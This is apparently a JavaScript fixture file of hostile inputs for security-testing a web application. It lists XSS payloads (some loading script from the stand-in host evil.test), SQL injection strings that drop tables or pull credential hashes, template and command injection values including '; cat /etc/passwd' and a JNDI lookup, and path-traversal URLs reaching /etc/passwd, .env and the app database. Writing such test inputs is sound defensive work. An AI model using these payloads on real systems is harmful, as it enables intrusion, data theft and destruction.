// What people with bad intentions type. Ours; the shared data has more.
const tick = String.fromCharCode(96);

export const scripts = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.test/x.js></sCrIpT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'"><script>alert(document.cookie)</script>',
	"'><svg/onload=alert(1)>",
	'<img src=x onerror=alert(1)>',
	'<img src="x:gif" onerror="window[\'al\'+\'ert\'](1)">',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><script href="data:text/javascript,alert(1)"/></svg>',
	'<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
	'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
	'<iframe src=javascript:alert(1)>',
	'<a href="javascript:alert(1)">click</a>',
	'<a href="jAvAsCrIpT&colon;alert(1)">click</a>',
	'<a href="&#106;avascript:alert(1)">click</a>',
	'<a href="java\tscript:alert(1)">click</a>',
	'<form action="https://evil.test"><button>go</button></form>',
	'<input autofocus onfocus=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<video><source onerror=alert(1)></video>',
	'<body onload=alert(1)>',
	'<base href="https://evil.test/">',
	'<meta http-equiv=refresh content="0;url=https://evil.test">',
	'<link rel=stylesheet href=//evil.test/x.css>',
	'<style>@import "//evil.test/x.css";</style>',
	'<object data="data:text/html,<script>alert(1)</script>">',
	'<embed src="//evil.test/x.swf">',
	'<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<!--><img src=x onerror=alert(1)>-->',
	'<![CDATA[<script>alert(1)</script>]]>',
	'</title><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>',
	'</script><script>alert(1)</script>',
	'[click](javascript:alert(1))',
	'![x](x"onerror="alert(1))',
	'<x onclick=alert(1)>hello',
	`<img src=x onerror=${tick}alert(1)${tick}>`,
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'%3Cscript%3Ealert(1)%3C/script%3E',
	'\u202egnp.exe',
	'\ufeff<script>alert(1)</script>',
	'＜script＞alert(1)＜/script＞'
];

export const queries = [
	"' OR '1'='1",
	"' OR 1=1 --",
	"'; DROP TABLE event; --",
	'"; DELETE FROM session; --',
	"admin'--",
	"') UNION SELECT token_hash,1 FROM session --",
	"1' AND (SELECT count(*) FROM sqlite_master) > 0 --",
	"x' || (SELECT hash FROM credential LIMIT 1) || '",
	"'; ATTACH DATABASE '/tmp/x.db' AS x; --",
	"' AND randomblob(1000000000) --",
	"%' OR name LIKE '%",
	'%',
	'_',
	'%%%%%',
	'\\',
	'\\%',
	"''",
	'""',
	'" OR NEAR(a b)',
	'a* OR b*',
	'title:secret',
	'NOT x AND',
	'((((',
	'^a + b',
	'{a b}: c'
];

export const templates = [
	'{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%print(7*7)%}', '{{constructor.constructor("return 1")()}}', '[[7*7]]', '@(7*7)',
	'*{7*7}', '{{=7*7}}', '%n%n%n%s%s%x', '%d %s %p', '$(id)', tick + 'id' + tick, '; cat /etc/passwd', '| id', '&& id', '${jndi:ldap://evil.test/x}',
	'=cmd|/c calc!A1', '+1+1', '-1', '@SUM(1,1)', '{{name}}', '%(company)s', '\\x3cscript\\x3e', '\\u003cscript\\u003e'
];

export const traversals = (() => {
	const ups = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..\\', '..%5c', '%252e%252e%252f', '....//', '..;/', '..%c0%af', '..%ef%bc%8f', '.%00./', '/./../', '%2e./'];
	const files = ['etc/passwd', 'segue.db', 'files/', 'proc/self/environ', 'demo.txt'];
	const from = ['/', '/desk/', '/console/', '/assets/', '/api/v1/files/', '/api/v1/articles/', '/api/docs/'];
	const out = [];
	for (const base of from) for (const up of ups) for (const file of files) out.push(base + up.repeat(3 + (out.length % 6)) + file);
	out.push('//etc/passwd', '/%2fetc/passwd', '/file:///etc/passwd', '/desk//../../etc/passwd', '/.git/config', '/.env', '/web/portal/dist/../../../segue.db', '/index.html%00.png', '/desk/index.html/../../../../etc/passwd');
	return out;
})();
